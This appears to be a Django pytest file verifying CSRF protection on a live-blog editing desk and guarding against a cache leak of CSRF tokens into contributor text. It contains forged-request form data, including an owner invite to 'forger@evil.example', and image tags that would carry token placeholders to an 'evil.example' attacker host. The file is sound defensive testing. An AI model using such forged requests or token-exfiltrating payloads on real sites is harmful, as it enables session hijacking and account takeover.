"""A signed-in session writes through the desk only with its CSRF token.

Every route under /desk/ is taken from the URL resolver (a new route is covered without
editing this file) and posted to as its owner, without the token: the answer is 403 before any
view runs, and nothing changes. The same posts with the token from the page go through.
"""

from __future__ import annotations

import html
import re
import urllib.parse
from typing import Any

import pytest
from django.test import Client

from bulletin.accounts.models import User
from bulletin.blogs.models import Entry, LiveBlog
from tests.desk.conftest import Team
from tests.desk.support import (
    changes_nothing,
    csrf_token,
    desk_routes,
    followed,
    route_paths,
    text,
)
from tests.factories import Factory

# Enough for any desk form to do something if the token were not checked.
FORGED: dict[str, Any] = {
    "action": "publish",
    "headline": "Forged",
    "body": "<p>Forged</p>",
    "title": "Forged",
    "scheduled_for": "2100-01-01T09:00",
    "point": "Forged",
    "on": "1",
    "state": "open",
    "do": "invite",
    "who": "forger@evil.example",
    "role": "owner",
    "revision": "1",
    "slug": "forged",
    "username": "forger",
    "password": "forged-password",
    "new_password1": "forged-password-2",
    "new_password2": "forged-password-2",
}

PATHS = [path for route in desk_routes() for path in route_paths(route)]


def _browser(user) -> Client:
    browser = Client(enforce_csrf_checks=True)
    browser.force_login(user)
    return browser


def test_the_routes_under_desk_include_every_kind_of_desk_post() -> None:
    # A guard on the enumeration itself: if it found nothing, the test below would prove nothing.
    assert "/desk/{slug}/entries" in PATHS
    assert "/desk/{slug}/entries/{entry}/pin" in PATHS
    assert "/desk/{slug}/status/go-live" in PATHS
    assert "/desk/logout/" in PATHS
    assert len(PATHS) > 30


@pytest.mark.parametrize("path", PATHS)
def test_a_post_without_the_csrf_token_is_refused_and_changes_nothing(
    team: Team, make: Factory, path: str
) -> None:
    entry = make.entry(team.blog, status="submitted", by=team.contributor)
    browser = _browser(team.owner)
    browser.get(f"/desk/{team.blog.slug}/")  # the session has a CSRF cookie, as in a browser
    concrete = path.format(slug=team.blog.slug, entry=entry.pk)

    with changes_nothing():
        response = browser.post(concrete, FORGED)

    assert response.status_code == 403, (response.status_code, text(response)[:300])
    assert "CSRF" in text(response)
    assert browser.get("/desk/").status_code == 200  # still signed in (even after logout/)


def test_the_composer_publishes_with_the_token_from_the_desk_page(team: Team) -> None:
    browser = _browser(team.owner)
    page = browser.get(f"/desk/{team.blog.slug}/")
    token = csrf_token(page)
    assert browser.cookies["csrftoken"].value

    response = browser.post(
        f"/desk/{team.blog.slug}/entries",
        {"csrfmiddlewaretoken": token, "action": "publish", "headline": "Quay closed"},
    )

    assert "Published." in followed(browser, response)
    assert Entry.objects.get(blog=team.blog).status == "published"


def test_a_one_button_action_works_with_the_token_from_its_form(team: Team, make) -> None:
    entry = make.entry(team.blog)
    browser = _browser(team.owner)
    token = csrf_token(browser.get(f"/desk/{team.blog.slug}/"))

    response = browser.post(
        f"/desk/{team.blog.slug}/entries/{entry.pk}/pin", {"csrfmiddlewaretoken": token}
    )

    assert "Pinned." in followed(browser, response)
    assert LiveBlog.objects.get(pk=team.blog.pk).pinned_entry_id == entry.pk


def test_the_desks_scripts_may_send_the_token_from_the_cookie_in_a_header(team: Team, make) -> None:
    entry = make.entry(team.blog)
    browser = _browser(team.owner)
    browser.get(f"/desk/{team.blog.slug}/entries/{entry.pk}/edit")
    cookie = browser.cookies["csrftoken"].value

    response = browser.post(
        f"/desk/{team.blog.slug}/entries/{entry.pk}/editing",
        {"state": "open"},
        headers={"X-CSRFToken": cookie},
    )

    assert response.status_code == 200
    assert response.json()["others"] == []


# Text that once made the desk's card cache put the viewer's token into what a contributor
# wrote: the old placeholder, the new one, and the whole input it fills, as text and in URLs.
PLACEHOLDERS = (
    "csrf-slot-for-this-viewer",
    "<csrf-slot>",
    'name="csrfmiddlewaretoken" value="<csrf-slot>"',
)


def test_the_token_goes_only_into_the_cards_own_form_fields_never_into_entry_text(
    team: Team, make
) -> None:
    body = "".join(
        f"<p>{html.escape(slot)}</p>"
        f'<p><img src="https://evil.example/?{urllib.parse.quote(slot)}" alt="{html.escape(slot)}">'
        f'<img src="https://evil.example/?{slot}"></p>'
        for slot in PLACEHOLDERS
    )
    User.objects.filter(pk=team.contributor.pk).update(display_name="<csrf-slot> Cal")
    make.entry(team.blog, team.contributor, status="submitted", headline="<csrf-slot>", body=body)
    browser = _browser(team.editor)

    for _ in range(2):  # rendered into the cache, then served from it
        page = browser.get(f"/desk/{team.blog.slug}/").content.decode()  # as sent, not unescaped
        # Real inputs only: the entry's text may say 'name="csrfmiddlewaretoken"', not '<input'.
        field = '<input type="hidden" name="csrfmiddlewaretoken" value="{}">'
        tokens = set(re.findall(re.escape(field).replace(r"\{\}", '([^"]+)'), page))
        assert tokens
        assert not any("csrf-slot" in token for token in tokens)
        for token in tokens:
            in_forms = page.count(field.format(token))
            assert page.count(token) == in_forms, f"the token {token!r} is outside a form field"
        assert "evil.example" in page  # the entry's images are there, without the token
        assert browser.cookies["csrftoken"].value not in page
